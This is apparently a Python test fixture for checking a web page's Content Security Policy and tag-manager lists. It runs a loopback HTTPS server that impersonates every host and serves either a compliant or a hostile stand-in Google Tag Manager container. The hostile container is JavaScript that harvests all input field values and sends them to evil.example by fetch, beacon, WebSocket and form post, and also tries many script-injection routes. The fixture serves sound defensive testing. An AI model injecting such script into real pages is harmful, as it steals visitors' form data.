"""A web server on loopback that plays every host of the world for one browser, and the container it hands out."""

# ruff: noqa: E501  (script, not prose)

from __future__ import annotations

import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.x509.oid import NameOID

PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")

# Tries everything a container could: each attempt that works leaves a mark in `window.worked`, or on the server.
HOSTILE = """
window.container = "ran";
window.worked = [];
const add = (tag, values) => document.head.append(Object.assign(document.createElement(tag), values));
const nonce = document.querySelector("script[nonce]")?.nonce ?? "";
add("script", { textContent: "worked.push('inline script')", nonce });
add("script", { src: "https://evil.example/script.js", nonce });
add("script", { src: "data:text/javascript,worked.push('data script')" });
add("script", { src: URL.createObjectURL(new Blob(["worked.push('blob script')"])) });
add("script", { src: "https://www.googletagmanager.com/a?id=other", nonce });
add("link", { rel: "stylesheet", href: "https://evil.example/style.css" });
add("base", { href: "https://evil.example/" });
try { eval("worked.push('eval')"); } catch {}
try { new Function("worked.push('function')")(); } catch {}
try { setTimeout("worked.push('timeout')", 0); } catch {}
const box = document.createElement("div");
box.innerHTML = `<img src="x:" onerror="worked.push('handler')"><a id="trap" href="javascript:worked.push('link')">x</a>`;
document.body.append(box);
document.getElementById("trap").click();
document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/frame" }));
document.body.append(Object.assign(document.createElement("iframe"), { srcdoc: "<script>parent.worked.push('frame')</script>" }));
document.body.append(Object.assign(document.createElement("object"), { data: "https://evil.example/object" }));
const body = JSON.stringify([...document.querySelectorAll("input")].map((each) => each.value));
fetch("https://evil.example/take", { method: "POST", mode: "no-cors", keepalive: true, body }).then(() => worked.push("fetch"), () => {});
fetch("/settings/").then(() => worked.push("own page"), () => {});
try { navigator.sendBeacon("https://evil.example/beacon", body); } catch {}
try { new WebSocket("wss://evil.example/socket"); } catch {}
try { new EventSource("https://evil.example/events"); } catch {}
try { new Worker("https://evil.example/worker.js"); } catch {}
const form = Object.assign(document.createElement("form"), { action: "https://evil.example/form", method: "post" });
document.body.append(form);
form.submit();
add("script", { src: "https://www.google-analytics.com/analytics.js" });
new Image().src = "https://pixels.example/pixel.gif?event=" + window.dataLayer.findLast((each) => each.sourceName !== undefined)?.event;
"""

# Obeys the lists as Google documents them: block beats allow, and once there is an allowlist only what is on it runs.
OBEDIENT = """
window.container = "ran";
window.ranTags = [];
const lists = Object.assign({}, ...window.dataLayer.slice(0, window.dataLayer.findIndex((each) => each.event === "gtm.js")));
for (const type of ["ua", "googtag", "gaawe", "img", "html", "jsm", "d", "k", "j", "aev", "cvt_12_3", "sp"])
  if ((!lists["gtm.allowlist"] || lists["gtm.allowlist"].includes(type)) && !lists["gtm.blocklist"]?.includes(type))
    window.ranTags.push(type);
"""


class _World(BaseHTTPRequestHandler):
    seen: list[str]
    container: str

    def do_GET(self) -> None:
        """Answer as the host that was asked for."""
        self._answer()

    def do_POST(self) -> None:
        """Likewise."""
        self._answer()

    def _answer(self) -> None:
        path = self.path.partition("?")[0]
        self.seen.append(f"{self.headers.get('Host', '').partition(':')[0]}{path}")
        data, kind = b"window.worked?.push('third-party script')", "text/javascript"
        if path == "/gtm.js":
            data = self.container.encode()
        elif path == "/analytics.js":
            data = b"window.analytics = 'ran'"
        elif path == "/pixel.gif":
            data, kind = PIXEL, "image/gif"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_args: Any) -> None:
        """Say nothing."""


@contextmanager
def world(folder: Path, container: str) -> Iterator[tuple[int, list[str]]]:
    """The server's port, and what was asked of it as "host/path". Its certificate is good for nothing but this test."""
    seen: list[str] = []
    handler = type("World", (_World,), {"seen": seen, "container": container})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(_certificate(folder))
    server.socket = context.wrap_socket(server.socket, server_side=True, do_handshake_on_connect=False)
    # Handshakes happen in the thread of each connection: browsers open some that they never use.
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port, seen
    finally:
        server.shutdown()
        server.server_close()


def _certificate(folder: Path) -> Path:
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "world.example")])
    now = datetime.now(UTC)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - timedelta(days=1))
        .not_valid_after(now + timedelta(days=1))
        .sign(key, hashes.SHA256())
    )
    path = folder / "world.pem"
    path.write_bytes(
        key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption())
        + made.public_bytes(serialization.Encoding.PEM)
    )
    return path
